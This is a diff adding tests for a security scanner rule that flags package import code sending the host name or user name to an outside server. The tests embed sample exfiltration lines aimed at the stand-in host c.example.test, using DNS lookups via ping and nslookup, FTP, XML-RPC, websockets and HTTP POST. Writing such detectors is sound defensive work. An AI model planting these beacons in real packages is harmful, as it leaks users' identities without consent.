@@ -42,3 +42,34 @@ def test_near_miss_resolving_the_own_name(scan):
 address = socket.getaddrinfo(socket.gethostname(), None)
 """
     assert scan(RULE, text) == []
+
+
+def test_a_look_up_by_ping(scan):
+    for command in ('"ping -c 1 " + socket.gethostname() + ".c.example.test"', '"nslookup $(hostname).c.example.test"'):
+        text = f"import os, socket\nos.system({command})\n"
+        assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
+
+
+def test_near_miss_a_ping_of_a_constant_name(scan):
+    text = 'import os, socket\nprint(socket.gethostname())\nos.system("ping -c 1 www.example.test")\n'
+    assert scan(RULE, text, "package/__init__.py") == []
+
+
+def test_by_other_protocols(scan):
+    for line in (
+        'ftplib.FTP("c.example.test").storbinary("STOR x", io.BytesIO(data))',
+        'xmlrpc.client.ServerProxy("https://c.example.test/").hello(data)',
+        'websocket.create_connection("wss://c.example.test/").send(data)',
+    ):
+        text = (
+            "import ftplib, getpass, io, socket, websocket, xmlrpc.client\n"
+            f"data = (socket.gethostname() + getpass.getuser()).encode()\n{line}\n"
+        )
+        assert scan(RULE, text, "package/__init__.py") == [(3, "HIGH", "HIGH", "import")]
+
+
+def test_the_user_as_the_environment_knows_it(scan):
+    text = r"""import os, requests, socket
+requests.post("https://c.example.test/", json={"h": socket.gethostname(), "u": os.environ.get("USERNAME")})
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
